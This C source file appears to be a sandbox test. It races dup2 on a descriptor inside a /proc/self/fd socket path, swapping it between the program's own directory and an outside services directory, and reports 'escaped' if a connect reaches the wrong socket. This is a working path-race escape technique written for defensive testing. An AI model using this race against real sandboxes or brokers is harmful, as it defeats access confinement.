/*
 * A descriptor in the path changes, between a directory of the program's own and one outside, while the broker looks.
 */
#include "attack.h"

#include <pthread.h>
#include <time.h>

static int own_fd, outside_fd, shown_fd;

static void *
swap(void *data)
{
	for (;;) {
		dup2(own_fd, shown_fd);
		dup2(outside_fd, shown_fd);
	}
	return data;
}

static int
attack(void)
{
	struct sockaddr_un own = unix_name("own/stream"), name = { .sun_family = AF_UNIX };
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	pthread_t thread;

	mkdir("own", 0755);
	if (bind(listener, (struct sockaddr *)&own, sizeof(own)) < 0 || listen(listener, 128) < 0)
		return held("listen");
	own_fd = open("own", O_PATH | O_DIRECTORY);
	outside_fd = open(services, O_PATH | O_DIRECTORY);
	shown_fd = dup(own_fd);
	snprintf(name.sun_path, sizeof(name.sun_path), "/proc/self/fd/%d/stream", shown_fd);
	pthread_create(&thread, NULL, swap, NULL);
	fcntl(listener, F_SETFL, O_NONBLOCK);
	for (time_t end = time(NULL) + 3; time(NULL) < end;) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un peer = { 0 };
		socklen_t length = sizeof(peer);

		if (connect(fd, (struct sockaddr *)&name, sizeof(name)) == 0 &&
		    getpeername(fd, (struct sockaddr *)&peer, &length) == 0 &&
		    strcmp(peer.sun_path, own.sun_path) != 0)
			return escaped("connected to a swapped directory");
		close(fd);
		fd = accept(listener, NULL, NULL);
		if (fd >= 0)
			close(fd);
	}
	errno = EACCES;
	return held("connect");
}
